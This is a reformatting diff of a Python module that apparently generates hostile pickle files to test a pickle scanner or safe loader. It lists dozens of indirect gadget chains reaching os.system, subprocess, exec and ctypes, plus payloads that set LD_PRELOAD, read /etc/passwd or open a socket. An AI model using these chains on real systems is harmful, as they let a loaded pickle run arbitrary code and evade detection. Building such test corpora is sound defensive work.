@@ -22,30 +22,48 @@ def _indirect(touch: str) -> list[Pair]:
     getattribute = name("builtins", "getattr")
     return [
         ("getattr", call(call(getattribute, OS, "system"), touch)),
-        ("getattr-chain", call(call(getattribute, call(getattribute, name("shutil", "copy"), "__globals__"), "get"), "os")
-         + Raw(b"0") + call(call(getattribute, OS, "system"), touch)),
-        ("attrgetter", call(call(call(name("operator", "attrgetter"), "os.system"), name("posixpath", "genericpath")),
-                            touch)),
+        (
+            "getattr-chain",
+            call(call(getattribute, call(getattribute, name("shutil", "copy"), "__globals__"), "get"), "os")
+            + Raw(b"0")
+            + call(call(getattribute, OS, "system"), touch),
+        ),
+        (
+            "attrgetter",
+            call(call(call(name("operator", "attrgetter"), "os.system"), name("posixpath", "genericpath")), touch),
+        ),
         ("methodcaller", call(call(name("operator", "methodcaller"), "system", touch), OS)),
         ("operator-call", call(name("_operator", "call"), SYSTEM, touch)),
         ("partial", call(call(name("functools", "partial"), SYSTEM, touch))),
-        ("reduce-getattr", call(call(name("functools", "reduce"), getattribute, [name("genericpath", "os"), "system"]),
-                                touch)),
+        (
+            "reduce-getattr",
+            call(call(name("functools", "reduce"), getattribute, [name("genericpath", "os"), "system"]), touch),
+        ),
         ("resolve-name", call(call(name("pkgutil", "resolve_name"), "os:system"), touch)),
         ("pydoc-locate", call(call(name("pydoc", "locate"), "os.system"), touch)),
         ("importlib", call(call(getattribute, call(name("importlib", "import_module"), "os"), "system"), touch)),
-        ("itemgetter", call(call(call(name("operator", "itemgetter"), "system"),
-                                 call(name("builtins", "vars"), OS)), touch)),
-        ("modules-getitem", call(call(getattribute, call(name("operator", "getitem"), name("sys", "modules"), "os"),
-                                      "system"), touch)),
-        ("globals-of-function", call(call(name("_operator", "getitem"), stacked("shutil", "os.__dict__"), "system"),
-                                     touch)),
-        ("mock-importer", call(call(getattribute, call(name("unittest.mock", "_importer"), "os"), "system"), touch)),
+        (
+            "itemgetter",
+            call(call(call(name("operator", "itemgetter"), "system"), call(name("builtins", "vars"), OS)), touch),
+        ),
+        (
+            "modules-getitem",
+            call(call(getattribute, call(name("operator", "getitem"), name("sys", "modules"), "os"), "system"), touch),
+        ),
+        (
+            "globals-of-function",
+            call(call(name("_operator", "getitem"), stacked("shutil", "os.__dict__"), "system"), touch),
+        ),
+        ("mock-resolve", call(call(stacked("unittest.mock", "pkgutil.resolve_name"), "os:system"), touch)),
         ("logging-resolve", call(stacked("logging", "os.system"), touch)),
         ("method-type", call(call(name("types", "MethodType"), SYSTEM, touch))),
         ("context-run", call(call(getattribute, call(name("contextvars", "copy_context")), "run"), SYSTEM, touch)),
-        ("lru-cache", call(call(name("functools", "_lru_cache_wrapper"), SYSTEM, 1, False, name("functools", "_CacheInfo")),
-                           touch)),
+        (
+            "lru-cache",
+            call(
+                call(name("functools", "_lru_cache_wrapper"), SYSTEM, 1, False, name("functools", "_CacheInfo")), touch
+            ),
+        ),
         ("singledispatch", call(call(name("functools", "singledispatch"), SYSTEM), touch)),
         ("staticmethod", call(call(name("builtins", "staticmethod"), SYSTEM), touch)),
         ("thread-pool", call(name("multiprocessing.pool", "ThreadPool"), 1, SYSTEM, (touch,))),
@@ -54,7 +72,6 @@ def _indirect(touch: str) -> list[Pair]:
 
 def _lazy(touch: str) -> list[Pair]:
     lazy = call(name("builtins", "map"), SYSTEM, [touch])
-    getattribute = name("builtins", "getattr")
     return [
         ("map-list", call(name("builtins", "list"), lazy)),
         ("map-deque", call(name("collections", "deque"), lazy, 0)),
@@ -70,13 +87,24 @@ def _lazy(touch: str) -> list[Pair]:
         ("groupby", call(name("builtins", "tuple"), call(name("itertools", "groupby"), [touch], SYSTEM))),
         ("nsmallest-key", call(name("heapq", "nsmallest"), 1, [touch], SYSTEM)),
         ("bisect-key", call(call(name("functools", "partial"), name("heapq", "nlargest"), 1, [touch]), SYSTEM)),
-        ("iter-sentinel", call(name("builtins", "next"), call(
-            name("builtins", "iter"), call(name("functools", "partial"), SYSTEM, touch), 1))),
+        (
+            "iter-sentinel",
+            call(
+                name("builtins", "next"),
+                call(name("builtins", "iter"), call(name("functools", "partial"), SYSTEM, touch), 1),
+            ),
+        ),
         ("dict-fromkeys", call(stacked("builtins", "dict.fromkeys"), lazy)),
         ("map-any", call(name("builtins", "any"), lazy)),
         ("map-in", call(name("_operator", "contains"), lazy, 0)),
-        ("map-join", call(stacked("builtins", "str.join"), "", call(
-            name("builtins", "map"), name("subprocess", "getoutput"), [touch]))),
+        (
+            "map-join",
+            call(
+                stacked("builtins", "str.join"),
+                "",
+                call(name("builtins", "map"), name("subprocess", "getoutput"), [touch]),
+            ),
+        ),
     ]
 
 
@@ -96,8 +124,10 @@ def _commands(marker: str) -> list[Pair]:
         ("popen-method", call(stacked("subprocess", "Popen"), line, -1, None, None, None, None, None, True, True)),
         ("spawnv-passfds", call(name("multiprocessing.util", "spawnv_passfds"), b"/usr/bin/touch", words, [])),
         ("pipes", call(call(wait, "open", marker, "w"), call(name("pipes", "Template")))),
-        ("ctypes", call(
-            call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), None), "system"), line.encode())),
+        (
+            "ctypes",
+            call(call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), None), "system"), line.encode()),
+        ),
         ("pythonapi", call(stacked("ctypes", "pythonapi.PyRun_SimpleString"), f"open({marker!r},'w')".encode())),
     ]
 
@@ -111,16 +141,37 @@ def _code(code: str) -> list[Pair]:
         ("trace", call(call(wait, "runctx", code, {}, {}), call(name("trace", "Trace"), 0, 0))),
         ("interpreter", call(call(wait, "runsource", code), call(name("code", "InteractiveInterpreter")))),
         ("exec-compiled", call(name("builtins", "exec"), compiled, {})),
-        ("function-type", call(call(name("types", "FunctionType"), compiled, {"__builtins__": name("builtins", "__dict__")}))),
+        (
+            "function-type",
+            call(call(name("types", "FunctionType"), compiled, {"__builtins__": name("builtins", "__dict__")})),
+        ),
         ("reduce-exec", call(name("functools", "reduce"), name("builtins", "exec"), [code, {}])),
-        ("source-loader", call(name("_frozen_importlib", "_call_with_frames_removed"), name("builtins", "exec"), code, {})),
-        ("forward-reference", call(name("typing", "_eval_type"), call(
-            name("typing", "ForwardRef"), code.replace(".close()", "")), {}, {})),
+        (
+            "source-loader",
+            call(name("_frozen_importlib", "_call_with_frames_removed"), name("builtins", "exec"), code, {}),
+        ),
+        (
+            "forward-reference",
+            call(
+                name("typing", "_eval_type"), call(name("typing", "ForwardRef"), code.replace(".close()", "")), {}, {}
+            ),
+        ),
         ("dataclass", call(name("dataclasses", "_create_fn"), "f", [f"a={code[:-8]}"], ["pass"])),
-        ("subinterpreter", call(name("_xxsubinterpreters", "run_string"), call(name("_xxsubinterpreters", "create")), code)),
+        (
+            "subinterpreter",
+            call(name("_xxsubinterpreters", "run_string"), call(name("_xxsubinterpreters", "create")), code),
+        ),
         ("bdb", call(call(wait, "run", code, {}, {}), call(name("bdb", "Bdb")))),
-        ("code-replace", call(call(name("types", "FunctionType"), call(stacked("types", "CodeType.replace"), compiled),
-                                   {"__builtins__": name("builtins", "__dict__")}))),
+        (
+            "code-replace",
+            call(
+                call(
+                    name("types", "FunctionType"),
+                    call(stacked("types", "CodeType.replace"), compiled),
+                    {"__builtins__": name("builtins", "__dict__")},
+                )
+            ),
+        ),
         ("doctest", call(name("doctest", "debug_script"), code, True, {})),
     ]
 
@@ -147,7 +198,7 @@ def _writers(marker: str) -> list[Pair]:
         ("temporary", call(name("tempfile", "mkdtemp"), "", marker.rsplit("/", 1)[-1], marker.rsplit("/", 1)[0])),
         ("codecs", call(name("codecs", "open"), marker, "w")),
         ("dbm", call(name("dbm.dumb", "open"), marker, "n")),
-        ("grammar", call(name("lib2to3.pgen2.grammar", "open"), marker, "w")),
+        ("tokenize", call(name("tokenize", "_builtin_open"), marker, "w")),
     ]
 
 
@@ -155,17 +206,28 @@ def _waiting(touch: str) -> list[Hostile]:
     """The call comes when the process ends or the object is dropped: a loader that lives on runs it later."""
     return [
         Hostile("gadget-atexit.pkl", pickled(call(name("atexit", "register"), SYSTEM, touch))),
-        Hostile("gadget-finalize.pkl", pickled(call(name("weakref", "finalize"), new(name("argparse", "Namespace")),
-                                                    SYSTEM, touch)), "unsafe", True),
-        Hostile("gadget-signal.pkl", pickled(call(name("_signal", "signal"), 10, call(
-            name("functools", "partial"), SYSTEM, touch)))),
+        Hostile(
+            "gadget-finalize.pkl",
+            pickled(call(name("weakref", "finalize"), new(name("argparse", "Namespace")), SYSTEM, touch)),
+            "unsafe",
+            True,
+        ),
+        Hostile(
+            "gadget-signal.pkl",
+            pickled(call(name("_signal", "signal"), 10, call(name("functools", "partial"), SYSTEM, touch))),
+        ),
         Hostile("gadget-import-side-effect.pkl", pickled(name("antigravity", "fly"))),
-        Hostile("gadget-environment.pkl", b"\x80\x04" + name("os", "environ") + b"\x8c\x0aLD_PRELOAD\x8c\x05/x.so"
-                + b"s."),
+        Hostile(
+            "gadget-environment.pkl", b"\x80\x04" + name("os", "environ") + b"\x8c\x0aLD_PRELOAD\x8c\x05/x.so" + b"s."
+        ),
         Hostile("gadget-sys-path.pkl", b"\x80\x04" + name("sys", "path") + b"\x8c\x08/tmp/xyza."),
         Hostile("gadget-profile-hook.pkl", pickled(call(name("sys", "setprofile"), SYSTEM))),
         Hostile("gadget-exit.pkl", pickled(call(name("posix", "_exit"), 0))),
         Hostile("gadget-connect.pkl", pickled(call(name("socket", "create_connection"), ("192.0.2.1", 9), 1))),
-        Hostile("gadget-read-secret.pkl", pickled({"x": call(call(name("_operator", "methodcaller"), "read"), call(
-            name("_io", "open"), "/etc/passwd"))})),
+        Hostile(
+            "gadget-read-secret.pkl",
+            pickled(
+                {"x": call(call(name("_operator", "methodcaller"), "read"), call(name("_io", "open"), "/etc/passwd"))}
+            ),
+        ),
     ]
